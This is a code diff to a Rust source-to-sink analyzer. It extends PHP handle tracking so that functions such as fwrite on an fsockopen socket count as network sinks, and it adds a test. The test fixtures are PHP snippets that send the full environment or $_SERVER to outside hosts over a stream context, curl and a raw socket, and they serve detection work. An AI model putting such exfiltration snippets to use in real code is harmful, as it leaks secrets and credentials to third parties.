@@ -1824,14 +1824,18 @@ fn finish<'t>(
                 }
             }
         }
+        // A function given the handle first acts on it as a method would
+        // (`fwrite($sock, $data)` after `$sock = fsockopen(…)`).
+        let handle_given = !callee.contains(['.', ':', '>'])
+            && args_child.is_some_and(|a| a.first & handle_bit != 0);
         let mut hit_here = None;
         for (i, class) in classes.classes.iter().enumerate() {
             if class.kind != ClassKind::Sink {
                 continue;
             }
             let direct_sink = direct & (1 << i) != 0;
-            let via_handle =
-                receiver_labels & handle_bit != 0 && class.handle_methods.contains(&bare);
+            let via_handle = (receiver_labels & handle_bit != 0 || handle_given)
+                && class.handle_methods.contains(&bare);
             if direct_sink || via_handle {
                 // What a call runs is its code argument: Python's and
                 // Ruby's `eval(code, globals, locals)` run the first, and
@@ -2532,6 +2536,37 @@ mod tests {
             reaches(Language::Python, "a.py", py, "env-dump", "network"),
             "{:?}",
             sinks(Language::Python, "a.py", py)
+        );
+    }
+
+    #[test]
+    fn php_sends_the_environment_through_stream_contexts_curl_and_sockets() {
+        let context = "<?php\n$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => json_encode(getenv())]]);\nfile_get_contents($url, false, $ctx);\n";
+        assert!(
+            reaches(Language::Php, "a.php", context, "env-dump", "network"),
+            "{:?}",
+            sinks(Language::Php, "a.php", context)
+        );
+        let curl = "<?php\n$ch = curl_init('https://c.example/');\ncurl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => http_build_query($_ENV)]);\ncurl_exec($ch);\n";
+        assert!(
+            reaches(Language::Php, "a.php", curl, "env-dump", "network"),
+            "{:?}",
+            sinks(Language::Php, "a.php", curl)
+        );
+        let socket = "<?php\n$s = fsockopen('198.51.100.7', 443);\n$body = serialize($_SERVER);\nfwrite($s, \"POST / HTTP/1.0\\r\\n\\r\\n\" . $body);\n";
+        assert!(
+            reaches(Language::Php, "a.php", socket, "env-dump", "network"),
+            "{:?}",
+            sinks(Language::Php, "a.php", socket)
+        );
+        // One variable is not the environment; a file handle is not a socket.
+        let one = "<?php\n$ctx = stream_context_create(['http' => ['content' => getenv('HOME')]]);\n$f = fopen('/tmp/x', 'w');\nfwrite($f, json_encode(getenv()));\n";
+        let found = sinks(Language::Php, "a.php", one);
+        assert!(
+            !found
+                .iter()
+                .any(|s| s.starts_with("network <-") && s.contains("env-dump")),
+            "{found:?}"
         );
     }
 
